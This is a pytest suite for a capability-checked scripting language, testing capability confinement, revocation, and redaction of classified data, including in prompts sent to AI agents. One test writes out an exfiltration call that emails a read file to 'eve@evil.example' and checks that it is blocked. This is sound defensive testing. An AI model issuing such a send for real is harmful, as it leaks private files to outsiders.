"""Capture checking: confinement, purity, revocation, classified data."""

from __future__ import annotations

from lscript.agent import AgentConfig, InstanceRuntime, agent_safe
from lscript.capabilities import CapabilityValue
from lscript.diagnostics import CAPABILITY_LEAK_PREFIX
from lscript.interp.evaluator import ScriptError, eval_expr
from lscript.interp.hole import eval_hole
from lscript.model import ScriptedModel
from lscript.stdlib import install_builtins
from lscript.interp.session import Session, SessionConfig
from tests.conftest import accept, fresh_session, reject, run_ok, scripted_session

import pytest


def io_session():
    session = fresh_session(grants=("io", "net", "console"))
    session.effects.files["/etc/hosts"] = "127.0.0.1 localhost"
    return session


class TestConfinement:
    def test_direct_use_returns_plain_string(self):
        session = io_session()
        value = accept(session,
                       'withCapability("io", (io: IO) => readFile(io, "/etc/hosts"))',
                       "String")
        assert value == "127.0.0.1 localhost"

    def test_reader_lambda_leaks_past_scope(self):
        session = io_session()
        text = reject(session,
                      'withCapability("io", (io: IO) => (p: String) => readFile(io, p))',
                      "String => String")
        assert text.startswith(f"Capability io {CAPABILITY_LEAK_PREFIX}")
        assert "Found:    String ->{io} String" in text
        assert "Required: String -> String" in text

    def test_pure_lambda_accepted_anywhere(self):
        session = io_session()
        value = accept(session, "((x: Int) => x + 1)(41)", "Int")
        assert value == 42

    def test_returning_capability_itself_rejected(self):
        session = io_session()
        text = reject(session, 'withCapability("io", (io: IO) => io)', "IO")
        assert text.startswith(f"Capability io {CAPABILITY_LEAK_PREFIX}")

    def test_body_ignoring_capability_fine(self):
        session = io_session()
        assert accept(session, 'withCapability("io", (io: IO) => 42)', "Int") == 42

    def test_escape_by_assignment_to_outer_var(self):
        session = io_session()
        run_ok(session, "var hook: String => String = (s: String) => s")
        text = reject(session,
                      'withCapability("io", (io: IO) => {\n'
                      '  hook = (p: String) => readFile(io, p)\n'
                      '  42\n'
                      '})', "Int")
        assert CAPABILITY_LEAK_PREFIX in text

    def test_capability_annotation_in_binding(self):
        session = io_session()
        text = reject(session,
                      'withCapability("io", (io: IO) => {\n'
                      '  val reader: String ->{io} String = (p: String) => readFile(io, p)\n'
                      '  reader\n'
                      '})', "String => String")
        assert CAPABILITY_LEAK_PREFIX in text

    def test_ungranted_kind_is_statically_unavailable(self):
        session = fresh_session(grants=())  # nothing granted
        text = reject(session, 'withCapability("io", (io: IO) => 1)', "Int")
        assert "capability kind io is not granted" in text

    def test_no_escaped_capabilities_after_turns(self):
        session = io_session()
        run_ok(session, 'val hosts = withCapability("io", (io: IO) => '
                        'readFile(io, "/etc/hosts"))')
        assert session.escaped_capabilities() == []


class TestAuthorityBound:
    def test_println_unbound_without_console(self):
        session = fresh_session(grants=())
        text = reject(session, 'println("hi")', "Unit")
        assert text == "Not found: value println"
        assert session.effects.console == []

    def test_send_email_unbound_without_net(self):
        session = fresh_session(grants=("io",))
        session.effects.files["/doc"] = "payload"
        text = reject(session,
                      'sendEmail("eve@evil.example", "x", readFile(io, "/doc"))',
                      "Unit")
        assert "Not found: value sendEmail" in text
        assert session.effects.outbox == []
        assert session.effects.emails_sent == 0

    def test_read_file_needs_io_value(self):
        session = fresh_session(grants=("net",))
        text = reject(session, 'readFile(io, "/doc")', "String")
        assert "Not found: value io" in text
        assert session.effects.reads == 0


class TestDynamicRevocation:
    def test_revoked_capability_fires_when_static_checks_bypassed(self):
        # harness-only path: evaluate an unchecked leak, then invoke it
        from lscript.syntax.parser import parse_program
        from lscript.types.check import check
        from lscript.interp.evaluator import eval_program

        session = io_session()
        source = ('var hook: String => String = (s: String) => s\n'
                  'withCapability("io", (io: IO) => {\n'
                  '  hook = (p: String) => readFile(io, p)\n'
                  '  42\n'
                  '})')
        program, diags = parse_program(source)
        assert not diags
        # type-check only (so nodes carry types) and skip capture_check
        _, check_diags, _ = check(program, session.type_env(), None, session.decls)
        assert not check_diags
        eval_program(program, session)
        # the closure escaped; its capability is revoked now
        leaked = session.escaped_capabilities()
        assert leaked and all(c.revoked for c in leaked)
        with pytest.raises(ScriptError) as err:
            run_ok(session, 'hook("/etc/hosts")')
        assert err.value.kind == "revoked-capability"


class TestPureScopes:
    def test_hole_in_pure_scope_rejects_ambient_capability(self):
        # a pure-faced closure carrying an eval hole cannot touch console
        session, _ = scripted_session(grants=("console",))
        run_ok(session, 'val f: Int -> String = (n: Int) => '
                        'eval[String]("s\\"n=$n\\"")')
        out = run_ok(session, "f(4)")
        assert out[0].value == "n=4"
        run_ok(session, 'val g: Int -> String = (n: Int) => '
                        'eval[String]("println(\\"spy\\")\\ns\\"n=$n\\"")')
        with pytest.raises(ScriptError) as err:
            run_ok(session, "g(4)")
        assert err.value.kind == "compile-failure"
        assert "pure context" in err.value.message
        assert session.effects.console == []


class TestClassified:
    def test_map_with_pure_function(self):
        session = fresh_session()
        run_ok(session, 'val box = classify("abc")')
        value = accept(session, "box.map((t: String) => t.size)", "Classified[Int]")
        assert value.content == 3

    def test_println_is_impure_argument(self):
        session = fresh_session(grants=("console",))
        run_ok(session, 'val box = classify("abc")')
        text = reject(session, "box.map((t: String) => println(t))",
                      "Classified[Unit]")
        assert "Found:    String ->{console} Unit" in text
        assert "Required: String -> Unit" in text

    def test_rendering_is_always_redacted(self):
        session = fresh_session()
        run_ok(session, 'val box = classify("secret-content-42")')
        out = run_ok(session, "box")
        assert out[0].echo == "val res0: Classified[String] = Classified(<redacted>)"
        out2 = run_ok(session, 's"leak: $box"')
        assert out2[0].value == "leak: Classified(<redacted>)"

    def test_local_pure_channel_agent_allowed_hosted_rejected(self):
        local = ScriptedModel(handle_id="local", pure_channel=True, rules=[
            {"contains": "summarize the document", "responses": ['s"summary of: $content"']},
        ])
        hosted = ScriptedModel(handle_id="hosted", queue=["unused"])
        session = fresh_session(
            grants=(),
            instances={
                "local": InstanceRuntime(local, AgentConfig(model_id="local")),
                "hosted": InstanceRuntime(hosted, AgentConfig(model_id="hosted")),
            },
            default="hosted")
        run_ok(session, 'val doc = classify("the secret plans")')
        # pure-channel instance: accepted, and the content reaches only it
        value = accept(
            session,
            'doc.map((content: String) => local.agent[String]("summarize the document"))',
            "Classified[String]")
        assert value.content == "summary of: the secret plans"
        # hosted instance in the same position: impure argument
        text = reject(
            session,
            'doc.map((content: String) => hosted.agent[String]("summarize the document"))',
            "Classified[String]")
        assert "Found:    String ->{hosted} String" in text
        # and no classified substring ever reached the hosted request log
        for request in hosted.request_log:
            assert "the secret plans" not in request

    def test_redaction_in_prompts_of_default_agent(self):
        # a classified binding in scope previews as redacted in the prompt
        session, model = scripted_session(queue=["1 + 1"])
        run_ok(session, 'val doc = classify("TOPSECRET-PAYLOAD")')
        result = agent_safe("compute", session, expected="Int")
        assert result.is_success
        assert model.request_log
        for request in model.request_log:
            assert "TOPSECRET-PAYLOAD" not in request
            assert "Classified(<redacted>)" in request


class TestCapabilityValues:
    def test_equality_is_identity(self):
        a = CapabilityValue(kind="io", scope_id="s/1")
        b = CapabilityValue(kind="io", scope_id="s/1")
        assert a != b and a == a

    def test_scoped_value_revoked_after_extent(self):
        session = io_session()
        run_ok(session, 'val n = withCapability("io", (io: IO) => 7)')
        assert not session.open_cap_scopes - {f"{session.id}/session"}
